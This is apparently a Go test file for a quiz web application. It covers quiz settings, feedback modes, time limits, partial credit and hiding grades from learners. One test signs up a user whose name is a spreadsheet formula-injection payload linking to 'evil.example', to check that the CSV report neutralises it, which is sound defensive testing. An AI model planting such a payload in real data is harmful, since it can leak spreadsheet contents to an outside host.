package handlers

import (
	"encoding/csv"
	"fmt"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"testing"
	"time"

	"factquiz/models"
	"factquiz/questions"
)

var quizAttemptPath = regexp.MustCompile(`^/attempts/(\d+)$`)

// quizSetup makes an instructor, a quiz of the Lyon article's first
// fill-in questions and a learner.
func quizSetup(t *testing.T, set models.QuizSettings, n int) (*testApp, *client, *client, *models.Quiz) {
	t.Helper()
	ta := newTestApp(t)
	id := ta.addArticle("city_lyon.txt")
	teacher := ta.as("teacher@example.com", models.RoleInstructor)
	z, err := ta.store.CreateQuiz(1, set)
	if err != nil {
		t.Fatal(err)
	}
	page, _ := ta.store.ListQuestions(models.BankFilter{ArticleID: id, Type: "fill_blank", PerPage: n})
	var ids []uint
	for _, q := range page.Questions {
		ids = append(ids, q.ID)
	}
	if _, err := ta.store.AddQuizQuestions(z.ID, ids); err != nil {
		t.Fatal(err)
	}
	learner := ta.as("ann@example.com", models.RoleLearner)
	return ta, teacher, learner, z
}

// startQuiz starts the quiz from its share page and returns the attempt's
// path, or the refusal.
func startQuiz(t *testing.T, c *client, z *models.Quiz) (*http.Response, string) {
	t.Helper()
	share := "/q/" + z.ShareToken
	return c.postForm(share+"/attempts", url.Values{"_csrf": {c.csrf(share)}})
}

func TestQuizBuilder(t *testing.T) {
	ta := newTestApp(t)
	id := ta.addArticle("city_lyon.txt")
	b := ta.as("teacher@example.com", models.RoleInstructor)
	token := b.csrf("/quizzes")
	resp, body := b.postForm("/quizzes", url.Values{"_csrf": {token}, "name": {"Week 1"}, "mode": {"chosen"}})
	wantStatus(t, resp, http.StatusSeeOther, body)
	edit := resp.Header.Get("Location")
	quizID := strings.TrimSuffix(strings.TrimPrefix(edit, "/quizzes/"), "/edit")
	bad := url.Values{"_csrf": {token}, "name": {"Week 1"}, "mode": {"rule"}, "rule_count": {"0"}, "time_limit": {"-5"},
		"feedback_mode": {"sometimes"}, "pass_mark": {"150"}, "opens_at": {"2026-12-02T09:00"}, "closes_at": {"2026-12-01T09:00"}}
	resp, body = b.postForm("/quizzes/"+quizID, bad)
	wantStatus(t, resp, http.StatusUnprocessableEntity, body)
	for _, want := range []string{"from 1 to 100", "from 0 (none) to 1440", "after each answer, at the end, or never", "from 0 (none) to 100", "close after it opens"} {
		if !strings.Contains(body, want) {
			t.Errorf("the quiz form does not say %q", want)
		}
	}
	good := url.Values{"_csrf": {token}, "name": {"Week 1"}, "mode": {"rule"}, "rule_count": {"5"}, "rule_articles": {fmt.Sprint(id)},
		"shuffle_options": {"on"}, "time_limit": {"10"}, "attempts_allowed": {"2"}, "feedback_mode": {"end"}, "pass_mark": {"60"}}
	resp, body = b.postForm("/quizzes/"+quizID, good)
	wantStatus(t, resp, http.StatusSeeOther, body)
	var z *models.Quiz
	zs, _ := ta.store.ListQuizzes(false, time.Now())
	z, _ = ta.store.GetQuiz(zs[0].ID)
	if z.RuleCount != 5 || len(z.RuleArticles) != 1 || z.TimeLimit != 10 || z.AttemptsAllowed != 2 || z.FeedbackMode != "end" || z.PassMark != 60 {
		t.Fatalf("saved quiz %+v", z)
	}
	// Learners see it on their home page and through its link.
	l := ta.as("ann@example.com", models.RoleLearner)
	_, home := l.get("/")
	if !strings.Contains(home, "Week 1") || !strings.Contains(home, "/q/"+z.ShareToken) {
		t.Errorf("the home page does not list the open quiz")
	}
	resp, body = startQuiz(t, l, z)
	wantStatus(t, resp, http.StatusSeeOther, body)
	m := quizAttemptPath.FindStringSubmatch(resp.Header.Get("Location"))
	if m == nil {
		t.Fatalf("started at %q", resp.Header.Get("Location"))
	}
	v, _ := ta.store.GetAttempt(parseID(t, m[1]), models.Owner{UserID: currentID(t, ta, "ann@example.com")})
	if v.Attempt.Total != 5 || v.Attempt.DeadlineAt == nil || v.Attempt.QuizID == nil || *v.Attempt.QuizID != z.ID {
		t.Errorf("attempt %+v", v.Attempt)
	}
	// Two attempts are allowed, not three.
	resp, body = startQuiz(t, l, z)
	wantStatus(t, resp, http.StatusSeeOther, body)
	resp, body = startQuiz(t, l, z)
	wantStatus(t, resp, http.StatusConflict, body)
	if !strings.Contains(body, "used every attempt") {
		t.Errorf("the refusal does not say why:\n%.1500s", body)
	}
}

// TestQuizFeedbackModes: "end" skips the feedback after each answer and
// shows it on the results; "never" shows only the score.
func TestQuizFeedbackModes(t *testing.T) {
	for _, mode := range []string{models.FeedbackEnd, models.FeedbackNever} {
		t.Run(mode, func(t *testing.T) {
			ta, _, l, z := quizSetup(t, models.QuizSettings{Name: "Q", FeedbackMode: mode, PassMark: 50}, 3)
			resp, _ := startQuiz(t, l, z)
			loc := resp.Header.Get("Location")
			v, _ := ta.store.GetAttempt(parseID(t, quizAttemptPath.FindStringSubmatch(loc)[1]), models.Owner{UserID: currentID(t, ta, "ann@example.com")})
			token := l.csrf(loc)
			for i, aq := range v.Questions {
				answer := "wrong answer"
				if i == 0 {
					answer = fmt.Sprint(rightJSON(t, aq.Question))
				}
				resp, body := l.postForm(loc+"/answers", url.Values{"_csrf": {token}, "question_id": {fmt.Sprint(aq.QuestionID)}, "answer": {answer}})
				wantStatus(t, resp, http.StatusSeeOther, body)
				next := resp.Header.Get("Location")
				if strings.Contains(next, "/feedback/") {
					t.Fatalf("mode %s shows feedback after an answer", mode)
				}
				if i < len(v.Questions)-1 {
					resp, _ = l.get(fmt.Sprintf("%s/feedback/%d", loc, i+1))
					wantStatus(t, resp, http.StatusForbidden, "")
				}
			}
			resp, page := l.get(loc + "/results")
			wantStatus(t, resp, http.StatusOK, page)
			if !strings.Contains(page, "1/3") || !strings.Contains(page, "Not passed") {
				t.Errorf("results lack the score or the pass mark:\n%.2000s", page)
			}
			hidden := strings.Contains(page, "does not show which answers were right")
			if hidden != (mode == models.FeedbackNever) {
				t.Errorf("mode %s: right answers hidden = %v", mode, hidden)
			}
		})
	}
}

// TestFeedbackOnceTimeIsUp: a quiz that shows feedback at the end shows
// it once the attempt's time is up, before anything has marked the
// attempt finished, on the feedback page as on the results and in the
// API: one rule decides (QuizRules.HidesGrades).
func TestFeedbackOnceTimeIsUp(t *testing.T) {
	ta, _, l, z := quizSetup(t, models.QuizSettings{Name: "Timed", TimeLimit: 1, FeedbackMode: models.FeedbackEnd}, 3)
	resp, _ := startQuiz(t, l, z)
	loc := resp.Header.Get("Location")
	annID := currentID(t, ta, "ann@example.com")
	v, _ := ta.store.GetAttempt(parseID(t, quizAttemptPath.FindStringSubmatch(loc)[1]), models.Owner{UserID: annID})
	aq := v.Questions[0]
	resp, body := l.postForm(loc+"/answers", url.Values{"_csrf": {l.csrf(loc)}, "question_id": {fmt.Sprint(aq.QuestionID)}, "answer": {"wrong answer"}})
	wantStatus(t, resp, http.StatusSeeOther, body)
	resp, _ = l.get(loc + "/feedback/1")
	wantStatus(t, resp, http.StatusForbidden, "")
	if err := ta.store.SetDeadline(v.Attempt.ID, time.Now().Add(-2*time.Minute)); err != nil {
		t.Fatal(err)
	}
	resp, page := l.get(loc + "/feedback/1")
	wantStatus(t, resp, http.StatusOK, page)
	resp, page = l.get(loc + "/results")
	wantStatus(t, resp, http.StatusOK, page)
	resp, page = l.get(fmt.Sprintf("/api/attempts/%d", v.Attempt.ID))
	wantStatus(t, resp, http.StatusOK, page)
	if !strings.Contains(page, `"correct":false`) {
		t.Errorf("the API keeps the grade hidden after the time is up: %s", page)
	}
}

func TestQuizTimeLimitAndWindow(t *testing.T) {
	ta, _, l, z := quizSetup(t, models.QuizSettings{Name: "Timed", TimeLimit: 1}, 3)
	resp, _ := startQuiz(t, l, z)
	loc := resp.Header.Get("Location")
	annID := currentID(t, ta, "ann@example.com")
	v, _ := ta.store.GetAttempt(parseID(t, quizAttemptPath.FindStringSubmatch(loc)[1]), models.Owner{UserID: annID})
	_, page := l.get(loc)
	if !strings.Contains(page, "data-time-left") {
		t.Error("the question page shows no timer")
	}
	// The time runs out: an answer is refused and the attempt ends.
	past := time.Now().Add(-2 * time.Minute)
	if err := ta.store.SetDeadline(v.Attempt.ID, past); err != nil {
		t.Fatal(err)
	}
	aq := v.Questions[0]
	resp, body := l.postForm(loc+"/answers", url.Values{"_csrf": {l.csrf("/")}, "question_id": {fmt.Sprint(aq.QuestionID)}, "answer": {"x"}})
	wantStatus(t, resp, http.StatusConflict, body)
	if !strings.Contains(body, "time for this quiz is up") {
		t.Errorf("the refusal does not say the time is up:\n%.1500s", body)
	}
	after, _ := ta.store.GetAttempt(v.Attempt.ID, models.Owner{UserID: annID})
	if after.Attempt.FinishedAt == nil || len(after.Responses) != 0 {
		t.Errorf("after the time: finished %v, %d answers", after.Attempt.FinishedAt, len(after.Responses))
	}
	resp, page = l.get(loc + "/results")
	wantStatus(t, resp, http.StatusOK, page)

	// A quiz that has closed cannot be started.
	closed := time.Now().Add(-time.Hour)
	opened := closed.Add(-time.Hour)
	if err := ta.store.UpdateQuiz(z.ID, models.QuizSettings{Name: "Timed", OpensAt: &opened, ClosesAt: &closed}); err != nil {
		t.Fatal(err)
	}
	resp, body = startQuiz(t, l, z)
	wantStatus(t, resp, http.StatusConflict, body)
	if !strings.Contains(body, "not open") {
		t.Errorf("no reason for the closed quiz:\n%.1500s", body)
	}
	_, home := l.get("/")
	if strings.Contains(home, "/q/"+z.ShareToken) {
		t.Error("a closed quiz is listed on the home page")
	}
}

// TestPartialCredit: a multiple answer question earns part of its mark
// for some of its right options, and the results and the report say so.
func TestPartialCredit(t *testing.T) {
	ta := newTestApp(t)
	id := ta.addArticle("city_lyon.txt")
	q, err := ta.store.AddQuestion(id, questions.Question{Type: questions.MultipleAnswer, Prompt: "Which rivers flow through Lyon?",
		Options: []string{"Rhône", "Saône", "Seine"}, Weights: []float64{50, 50, -100}, Answers: []string{"Rhône", "Saône"}}, models.OriginManual)
	if err != nil {
		t.Fatal(err)
	}
	z, _ := ta.store.CreateQuiz(1, models.QuizSettings{Name: "Rivers"})
	ta.store.AddQuizQuestions(z.ID, []uint{q.ID})
	l := ta.as("ann@example.com", models.RoleLearner)
	resp, _ := startQuiz(t, l, z)
	loc := resp.Header.Get("Location")
	form := url.Values{"_csrf": {l.csrf(loc)}, "question_id": {fmt.Sprint(q.ID)}, "answer": {"Rhône"}}
	resp, body := l.postForm(loc+"/answers", form)
	wantStatus(t, resp, http.StatusSeeOther, body)
	_, page := l.get(resp.Header.Get("Location"))
	if !strings.Contains(page, "Partly right: 50 % of the mark") {
		t.Errorf("the feedback does not give the partial credit:\n%.2000s", page)
	}
	_, page = l.get(loc + "/results")
	if !strings.Contains(page, "0.5/1 (50 %)") || !strings.Contains(page, "Partly right (50 %)") {
		t.Errorf("the results do not count the partial credit:\n%.3000s", page)
	}
	rep, _ := ta.store.QuizReport(z.ID)
	if rep.Marks[0][0] != 0.5 || rep.Attempts[0].Marks != 0.5 {
		t.Errorf("report marks %v, attempt marks %v", rep.Marks, rep.Attempts[0].Marks)
	}
}

// TestAuthorFeedback: the feedback page shows what the author wrote for
// the option chosen, then the general feedback.
func TestAuthorFeedback(t *testing.T) {
	ta := newTestApp(t)
	id := ta.addArticle("city_lyon.txt")
	q, err := ta.store.AddQuestion(id, questions.Question{Type: questions.MultipleChoice, Prompt: "Which river meets the Rhône at Lyon?",
		Options: []string{"Saône", "Loire"}, Answer: "Saône", OptionFeedback: []string{"Yes.", "The Loire flows west, far from Lyon."},
		Feedback: "Lyon lies where the Saône meets the Rhône."}, models.OriginManual)
	if err != nil {
		t.Fatal(err)
	}
	z, _ := ta.store.CreateQuiz(1, models.QuizSettings{Name: "Rivers"})
	ta.store.AddQuizQuestions(z.ID, []uint{q.ID})
	l := ta.as("ann@example.com", models.RoleLearner)
	resp, _ := startQuiz(t, l, z)
	loc := resp.Header.Get("Location")
	resp, body := l.postForm(loc+"/answers", url.Values{"_csrf": {l.csrf(loc)}, "question_id": {fmt.Sprint(q.ID)}, "answer": {"Loire"}})
	wantStatus(t, resp, http.StatusSeeOther, body)
	_, page := l.get(resp.Header.Get("Location"))
	first, second := strings.Index(page, "The Loire flows west"), strings.Index(page, "Lyon lies where the Saône meets")
	if first < 0 || second < first || strings.Contains(page, "Yes.") {
		t.Errorf("the feedback page does not show the chosen option's feedback, then the general one:\n%.3000s", page)
	}
}

// TestClaimKeepsAttemptLimit: a learner who has used a quiz's one attempt,
// logs out, takes it again as a guest and logs back in does not get a
// second attempt on the account: the guest's attempt stays the guest's,
// the notice says so, and the quiz still says no attempt is left. A guest
// attempt within the limit is claimed as before.
func TestClaimKeepsAttemptLimit(t *testing.T) {
	ta, _, l, z := quizSetup(t, models.QuizSettings{Name: "Once", AttemptsAllowed: 1, FeedbackMode: models.FeedbackEach}, 2)
	ann := currentID(t, ta, "ann@example.com")
	resp, body := startQuiz(t, l, z)
	wantStatus(t, resp, http.StatusSeeOther, body)
	resp, body = l.postForm("/logout", url.Values{"_csrf": {l.csrf("/")}})
	wantStatus(t, resp, http.StatusSeeOther, body)
	resp, body = startQuiz(t, l, z)
	wantStatus(t, resp, http.StatusSeeOther, body)
	l.login("ann@example.com", testPassword)
	if n, err := ta.store.QuizAttemptCount(z.ID, models.Owner{UserID: ann}); err != nil || n != 1 {
		t.Errorf("Ann has %d attempts of a one-attempt quiz (%v)", n, err)
	}
	_, page := l.get("/dashboard")
	wantSays(t, "the page after logging in", page, "whose attempts you had used up")
	resp, body = startQuiz(t, l, z)
	wantStatus(t, resp, http.StatusConflict, body)

	// Bob takes it as a guest first, then signs up: his attempt is his.
	bob := ta.client()
	resp, body = startQuiz(t, bob, z)
	wantStatus(t, resp, http.StatusSeeOther, body)
	resp, body = bob.postForm("/signup", url.Values{"_csrf": {bob.csrf("/signup")}, "email": {"bob@example.com"}, "name": {"Bob"}, "password": {testPassword}})
	wantStatus(t, resp, http.StatusSeeOther, body)
	if n, _ := ta.store.QuizAttemptCount(z.ID, models.Owner{UserID: currentID(t, ta, "bob@example.com")}); n != 1 {
		t.Errorf("Bob has %d attempts after signing up, want the one he took as a guest", n)
	}
}

// TestHiddenGradesStayHidden: while a quiz keeps grades back (feedback at
// the end, until the attempt is over; never, always), neither the API's
// attempt, nor /api/progress, nor the dashboard and its weak spots tell
// the learner which answers were right; the instructor's view of the
// learner has them, and so does the learner once an "at the end" quiz is
// over.
func TestHiddenGradesStayHidden(t *testing.T) {
	for _, mode := range []string{models.FeedbackEnd, models.FeedbackNever} {
		t.Run(mode, func(t *testing.T) {
			ta, teacher, l, z := quizSetup(t, models.QuizSettings{Name: "Sealed", FeedbackMode: mode}, 3)
			ann := currentID(t, ta, "ann@example.com")
			resp, _ := startQuiz(t, l, z)
			loc := resp.Header.Get("Location")
			id := parseID(t, quizAttemptPath.FindStringSubmatch(loc)[1])
			v, _ := ta.store.GetAttempt(id, models.Owner{UserID: ann})
			answer := func(i int, right bool) {
				t.Helper()
				a := any("a wrong answer")
				if right {
					a = rightJSON(t, v.Questions[i].Question)
				}
				resp, out := l.postJSON(fmt.Sprintf("/api/attempts/%d/answers", id), map[string]any{"question_id": v.Questions[i].QuestionID, "answer": a})
				wantStatus(t, resp, http.StatusOK, fmt.Sprint(out))
			}
			answer(0, true)
			answer(1, false)

			var att map[string]any
			l.getJSON(fmt.Sprintf("/api/attempts/%d", id), &att)
			if _, ok := att["score"]; ok {
				t.Errorf("the unfinished attempt's score is given: %v", att)
			}
			for _, r := range att["responses"].([]any) {
				if _, ok := r.(map[string]any)["correct"]; ok {
					t.Errorf("a response says whether it was right: %v", r)
				}
			}
			var prog map[string]any
			l.getJSON("/api/progress", &prog)
			if prog["correct"] != float64(0) || prog["answers"] != float64(0) {
				t.Errorf("/api/progress counts sealed answers: answers %v, correct %v", prog["answers"], prog["correct"])
			}
			answer(2, false) // the attempt is over
			_, dash := l.get("/dashboard")
			l.getJSON(fmt.Sprintf("/api/attempts/%d", id), &att)
			l.getJSON("/api/progress", &prog)
			if mode == models.FeedbackNever {
				if strings.Contains(dash, "Right answer:") {
					t.Error("the dashboard's weak spots give the right answer of a quiz that never shows it")
				}
				if prog["answers"] != float64(0) {
					t.Errorf("/api/progress counts the answers of a quiz that never grades them: %v", prog)
				}
				if att["score"] != float64(1) {
					t.Errorf("the finished attempt's score: %v, want 1 (the score is shown at the end)", att["score"])
				}
			} else {
				if !strings.Contains(dash, "Right answer:") {
					t.Error("the dashboard shows no weak spot once the quiz is over")
				}
				if prog["answers"] != float64(3) || prog["correct"] != float64(1) {
					t.Errorf("/api/progress once the quiz is over: answers %v, correct %v, want 3 and 1", prog["answers"], prog["correct"])
				}
				if att["score"] != float64(1) {
					t.Errorf("the finished attempt's score: %v, want 1", att["score"])
				}
			}
			// The instructor sees the learner's grades.
			_, page := teacher.get(fmt.Sprintf("/learners/%d", ann))
			wantSays(t, "the instructor's view", page, "Right answer:")
		})
	}
}

// TestAnswerKeyKeptFromLearners: the article page lists questions with
// their answers to staff only; learners and guests practise (and take as
// flashcards) only generated questions that no quiz keeping its grades
// back uses, so that such a quiz's questions, and a teacher's own, are
// not found with their answers outside the quiz.
func TestAnswerKeyKeptFromLearners(t *testing.T) {
	ta, teacher, l, z := quizSetup(t, models.QuizSettings{Name: "Exam", FeedbackMode: models.FeedbackNever}, 3)
	z, _ = ta.store.GetQuiz(z.ID)
	inExam := map[uint]bool{}
	for _, qq := range z.Questions {
		inExam[qq.QuestionID] = true
	}
	if len(inExam) != 3 {
		t.Fatalf("the exam has %d questions", len(inExam))
	}
	// A teacher's own question, in no quiz.
	resp, body := teacher.postForm("/questions", url.Values{"_csrf": {teacher.csrf("/questions/new?article=1")}, "article": {"1"},
		"type": {"fill_blank"}, "prompt": {"The teacher's own: Lyon lies on the _____."}, "answer": {"Rhône"}})
	wantStatus(t, resp, http.StatusSeeOther, body)

	for who, c := range map[string]*client{"a guest": ta.client(), "a learner": l} {
		_, page := c.get("/articles/1")
		if strings.Contains(page, "Answer:") || strings.Contains(page, "question-list") {
			t.Errorf("the article page lists questions and answers to %s", who)
		}
		wantSays(t, "the article page for "+who, page, `action="/articles/1/attempts"`)
		resp, out := c.postJSON("/api/attempts", map[string]any{"article_id": 1, "count": 100})
		wantStatus(t, resp, http.StatusCreated, fmt.Sprint(out))
		served := out["questions"].([]any)
		if len(served) == 0 {
			t.Fatalf("%s can practise nothing", who)
		}
		for _, q := range served {
			q := q.(map[string]any)
			id := uint(q["id"].(float64))
			if inExam[id] {
				t.Errorf("%s practises question %d of a quiz that never shows answers", who, id)
			}
			if strings.HasPrefix(q["prompt"].(string), "The teacher's own") {
				t.Errorf("%s practises the teacher's own question", who)
			}
		}
	}
	_, page := teacher.get("/articles/1")
	wantSays(t, "the article page for staff", page, "Answer:", "The teacher&#39;s own")

	resp, body = l.postForm("/articles/1/deck", url.Values{"_csrf": {l.csrf("/articles/1")}})
	wantStatus(t, resp, http.StatusSeeOther, body)
	cards, err := ta.store.DeckCards(currentID(t, ta, "ann@example.com"), 1)
	if err != nil || len(cards) == 0 {
		t.Fatalf("%d cards (%v)", len(cards), err)
	}
	for _, c := range cards {
		if inExam[c.QuestionID] || c.Question.Origin != models.OriginGenerated {
			t.Errorf("a flashcard of question %d (%s, in the exam: %v)", c.QuestionID, c.Question.Origin, inExam[c.QuestionID])
		}
	}
}

// TestCSVDownloadsNeutraliseFormulas: a learner whose name is a formula
// is written in the quiz report's CSV with a ' before it, so that a
// spreadsheet shows it as text instead of running it.
func TestCSVDownloadsNeutraliseFormulas(t *testing.T) {
	ta, teacher, _, z := quizSetup(t, models.QuizSettings{Name: "Q", FeedbackMode: models.FeedbackEach}, 2)
	evil := ta.client()
	name := `=HYPERLINK("http://evil.example/?"&A1,"click")`
	resp, body := evil.postForm("/signup", url.Values{"_csrf": {evil.csrf("/signup")}, "email": {"+evil@example.com"}, "name": {name}, "password": {testPassword}})
	wantStatus(t, resp, http.StatusSeeOther, body)
	resp, body = startQuiz(t, evil, z)
	wantStatus(t, resp, http.StatusSeeOther, body)
	resp, body = teacher.get(fmt.Sprintf("/quizzes/%d/report.csv", z.ID))
	wantStatus(t, resp, http.StatusOK, body)
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, r := range rows[1:] {
		if r[1] == "'"+name {
			found = true
			if r[2] != "'+evil@example.com" {
				t.Errorf("the email cell is %q, want it behind a '", r[2])
			}
		}
		for i, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
				t.Errorf("row %v: cell %d begins with %q", r, i, cell[0])
			}
		}
	}
	if !found {
		t.Errorf("no row has the name behind a ':\n%s", body)
	}
}

// TestAnswersAfterQuizCloses: an attempt started while the quiz was open
// takes no answer once the quiz has closed: the answer gets a 409 that
// says so, is not stored, and the attempt is finished, its results shown.
func TestAnswersAfterQuizCloses(t *testing.T) {
	ta, _, l, z := quizSetup(t, models.QuizSettings{Name: "Closing", FeedbackMode: models.FeedbackEach}, 3)
	resp, body := startQuiz(t, l, z)
	wantStatus(t, resp, http.StatusSeeOther, body)
	loc := resp.Header.Get("Location")
	id := parseID(t, quizAttemptPath.FindStringSubmatch(loc)[1])
	ann := models.Owner{UserID: currentID(t, ta, "ann@example.com")}
	v, _ := ta.store.GetAttempt(id, ann)
	resp, out := l.postJSON(fmt.Sprintf("/api/attempts/%d/answers", id), map[string]any{"question_id": v.Questions[0].QuestionID, "answer": "x"})
	wantStatus(t, resp, http.StatusOK, fmt.Sprint(out))

	closed := time.Now().Add(-time.Minute)
	if err := ta.store.UpdateQuiz(z.ID, models.QuizSettings{Name: "Closing", FeedbackMode: models.FeedbackEach, ClosesAt: &closed}); err != nil {
		t.Fatal(err)
	}
	resp, out = l.postJSON(fmt.Sprintf("/api/attempts/%d/answers", id), map[string]any{"question_id": v.Questions[1].QuestionID, "answer": "x"})
	wantStatus(t, resp, http.StatusConflict, fmt.Sprint(out))
	if msg, _ := out["error"].(string); !strings.Contains(msg, "has closed") {
		t.Errorf("the refusal says %q", msg)
	}
	resp, body = l.postForm(loc+"/answers", url.Values{"_csrf": {l.csrf(loc + "/results")}, "question_id": {fmt.Sprint(v.Questions[2].QuestionID)}, "answer": {"x"}})
	wantStatus(t, resp, http.StatusConflict, body)
	after, _ := ta.store.GetAttempt(id, ann)
	if len(after.Responses) != 1 {
		t.Errorf("%d answers stored, want the one before the quiz closed", len(after.Responses))
	}
	if after.Attempt.FinishedAt == nil || after.Attempt.FinishedAt.Sub(closed).Abs() > time.Second {
		t.Errorf("the attempt finished at %v, want the closing time %v", after.Attempt.FinishedAt, closed)
	}
	resp, body = l.get(loc + "/results")
	wantStatus(t, resp, http.StatusOK, body)
}
